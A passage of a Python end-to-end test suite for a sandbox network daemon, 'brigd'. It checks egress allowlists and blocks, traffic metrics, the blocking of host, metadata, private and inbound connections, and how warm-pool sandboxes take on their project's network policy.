        r = e2b(napi, "POST", "/v2/sandboxes", {"templateID": "base", **opts})
        assert r.status == 201, r.body
        made[name] = r.json()["sandboxID"]
    shut, denied, opened = made["shut"], made["denied"], made["open"]
    for sb in made.values():
        gateway(napi, sb)

    def check():
        for sb in (shut, denied):
            assert fetch(napi, sb, "http://allowed.test/")[0] != 0
            assert fetch(napi, sb, f"http://{ALLOWED}/")[0] != 0
        assert fetch(napi, opened, "http://allowed.test/") == (0, f"hello from {ALLOWED}\n")

    check()
    assert napi.ok("GET", f"/v1/sandboxes/{shut}").json()["egress"] == "none"
    assert "egress" not in napi.ok("GET", f"/v1/sandboxes/{opened}").json()
    assert e2b(napi, "GET", f"/sandboxes/{shut}").json()["allowInternetAccess"] is False
    assert e2b(napi, "GET", f"/sandboxes/{opened}").json()["allowInternetAccess"] is True
    # the project's policy changes (applied to its running sandboxes): the shut ones stay shut
    prj = napi.ok("GET", f"/v1/sandboxes/{shut}").json()["project_id"]
    napi.ok("PATCH", f"/v1/projects/{prj}",
            {"egress": {"mode": "allowlist", "domains": ["allowed.test"], "cidrs": [ALLOWED + "/32"]}})
    napi.ok("PATCH", f"/v1/projects/{prj}", {"egress": OPEN})
    check()
    # and so after a restart, which attaches each sandbox's network again
    netd.stop()
    start_in_hostns(netd)
    napi.port = netd.net_api.port  # a new port; the fixture's teardown uses napi too
    check()
    # what brig has no per-sandbox form of: 400 naming it, and nothing made
    for body, named in (({"network": {"allowOut": ["1.1.1.1"], "denyOut": ["0.0.0.0/0"]}},
                         "network.allowOut"),
                        ({"network": {"denyOut": ["10.0.0.0/8"]}}, "network.denyOut"),
                        ({"network": {"maskRequestHost": "x.test"}}, "network.maskRequestHost"),
                        ({"allow_internet_access": "no"}, "allow_internet_access")):
        r = e2b(napi, "POST", "/v2/sandboxes", {"templateID": "base", **body})
        assert r.status == 400 and named in r.json()["message"], (body, r.body)
    r = e2b(napi, "PUT", f"/sandboxes/{opened}/network", {"allow_internet_access": False})
    assert r.status == 501 and "network" in r.json()["message"], r.body
    assert len(napi.ok("GET", "/v1/sandboxes").json()["sandboxes"]) == 3
    for sb in made.values():
        napi.delete(sb)


@pytest.mark.base
def test_e2e_metrics_count_a_sandboxs_traffic(napi):
    """GET /v1/sandboxes/{id}/metrics: its link's bytes and packets (docs/metrics.md), out
    and in, move with a fetch through the host (sampled every metrics_interval, 5 s)."""
    sb = napi.create(template="base")["id"]

    def latest():
        return napi.ok("GET", f"/v1/sandboxes/{sb}/metrics").json()["latest"]

    brigtest.wait_for(lambda: latest() is not None, timeout=15, what="a first sample")
    before = latest()
    assert before["net_bytes_out"] is not None and before["net_bytes_in"] is not None, before
    assert fetch(napi, sb, "http://allowed.test/") == (0, f"hello from {ALLOWED}\n")
    brigtest.wait_for(lambda: latest()["net_bytes_in"] > before["net_bytes_in"] + 50 and
                      latest()["net_packets_out"] > before["net_packets_out"], timeout=15,
                      what="the fetch's traffic to be counted")
    napi.delete(sb)


@pytest.mark.base
def test_e2e_denied_destinations_and_inbound(napi, netd, inet):
    a = napi.create(template="base")["id"]
    b = napi.create(template="base")["id"]
    gw, a_addr, b_addr = gateway(napi, a), addr_of(napi, a), addr_of(napi, b)
    api_port = netd.url.rstrip("/").rsplit(":", 1)[1]
    # brigd's API and the host's addresses: dropped, so curl times out (28)
    # rather than being refused (7)
    for host in (gw, HOST_ADDR):
        rc, out = fetch(napi, a, f"http://{host}:{api_port}/healthz")
        assert rc == 28, (host, rc, out)
    assert fetch(napi, a, f"http://{META}/")[0] == 28
    assert fetch(napi, a, f"http://{PRIV}/")[0] == 28
    assert fetch(napi, a, f"http://{b_addr}:8000/")[0] == 28
    # inbound, from the host namespace: dropped too (a timeout, not a refusal)
    r = client(inet, HOSTNS, "tcp", a_addr, "22")
    assert not r["ok"] and "timed out" in r["error"], r
    recs = napi.ok("GET", f"/v1/sandboxes/{a}/network-log").json()["entries"]
    kinds = {(r.get("reason"), r.get("dst")) for r in recs if r["kind"] == "denied"}
    assert ("host", gw) in kinds and ("policy", META) in kinds
    assert ("policy", b_addr) in kinds and ("inbound", a_addr) in kinds
    napi.delete(a)
    napi.delete(b)


@pytest.mark.base
def test_e2e_warm_pool_claim_gets_the_projects_policy(netd, inet):
    warm_pool_claim_gets_the_projects_policy(netd, inet, "container")


def warm_pool_claim_gets_the_projects_policy(netd, inet, isolation):
    """Pooled sandboxes are connected ahead of time under "none"; a claim swaps
    in the project's policy.  (One brigd per network namespace manages
    networking: the module's brigd steps aside for one with a pool.)"""
    stopped_clean(netd)
    cfg = os.path.join(inet["tmp"], "pool.conf")
    key = "base/small" if isolation == "container" else f"base/small/{isolation}"
    with open(cfg, "w") as f:
        f.write(f"[brigd]\nwarm_pool = base:small:1:{isolation}\n")
    d = brigtest.Brigd(os.path.join(inet["tmp"], "brigd-pool"), ["--config", cfg])
    try:
        start_in_hostns(d)
        a = d.net_api

        def pool():
            return a.request("GET", "/healthz", key=None).json()["warm_pool"][key]

        brigtest.wait_for(lambda: pool()["ready"] == 1, timeout=60, what="the pool to fill")
        assert len(sandbox_links()) == 1  # the pooled sandbox is linked already
        closed = a.ok("POST", "/v1/projects", {"name": "pool-none"}).json()["id"]
        a.ok("PATCH", f"/v1/projects/{closed}", {"egress": {"mode": "none"}})
        shut = a.create(template="base", project=closed, isolation=isolation)["id"]
        assert pool()["hits"] == 1
        gateway(a, shut)
        assert fetch(a, shut, "http://allowed.test/")[0] != 0
        assert fetch(a, shut, f"http://{ALLOWED}/")[0] != 0
        brigtest.wait_for(lambda: pool()["ready"] == 1, timeout=60, what="the pool to refill")
        opened = a.create(template="base", isolation=isolation)["id"]  # default project: open
        assert (pool()["hits"], pool()["misses"]) == (2, 0)
        assert fetch(a, opened, "http://allowed.test/") == (0, f"hello from {ALLOWED}\n")
        assert fetch(a, shut, f"http://{ALLOWED}/")[0] != 0  # each its own policy
        a.delete(shut)
        a.delete(opened)
    finally:
        stopped_clean(d)  # the refilled pooled sandbox goes with brigd
        start_in_hostns(netd)
